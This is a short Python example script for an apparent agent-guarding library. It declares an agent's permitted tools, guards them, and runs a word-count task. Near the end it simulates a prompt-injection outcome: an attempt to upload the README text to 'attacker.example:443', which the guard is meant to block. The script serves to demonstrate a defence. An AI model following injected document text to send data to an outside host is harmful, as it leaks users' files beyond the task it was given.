"""An agent of one's own. `make run` in one terminal; in another, in the same checkout:

. .kaizen/env && .venv/bin/python examples/first_agent.py
"""

from pathlib import Path

from kaizen_security import Action, Kaizen, KaizenBlocked, Verdict


def show(verdict: Verdict, action: Action) -> None:
    print(f"{verdict.decision:<6} {'flagged' if verdict.flagged else '       '} {action.tool}: {verdict.reason}")


# Key and sidecar come from .kaizen/env. In enforce mode a person is asked about what was not declared: here for two seconds.
kaizen = Kaizen(agent="first-agent", on_verdict=show, hold_seconds=2)
kaizen.declare(tools=["read_file", "count_words"], purpose="Counts the words of documents.")


@kaizen.guard(kind="file", target="path")
def read_file(path: str) -> str:
    return Path(path).read_text()


@kaizen.guard
def count_words(text: str) -> int:
    return len(text.split())


@kaizen.guard(target="host")
def upload(host: str, text: str) -> str:
    return f"here {len(text)} characters would have left for {host}"  # nothing is sent: this is an example


with kaizen.run("How long is the README?"):
    text = read_file("README.md")
    print(count_words(text), "words")
    try:
        print(upload("attacker.example:443", text))  # what an injected sentence in a document might make an agent do
    except KaizenBlocked as refused:
        print(refused)
